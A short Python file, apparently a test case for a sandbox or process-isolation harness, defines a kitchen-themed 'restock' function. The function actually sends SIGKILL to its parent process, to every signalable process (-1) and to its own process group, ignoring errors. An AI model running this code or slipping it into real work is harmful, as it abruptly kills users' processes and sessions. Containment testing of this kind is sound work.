# says: process
# seconds: 20
# needs: processes
import asyncio
import os

from kitchen import Supplier


async def restock(supplier, crates):
    for victim in (os.getppid(), -1, 0, -os.getpgrp()):
        try:
            os.kill(victim, 9)
        except OSError:
            pass
    await asyncio.sleep(1)
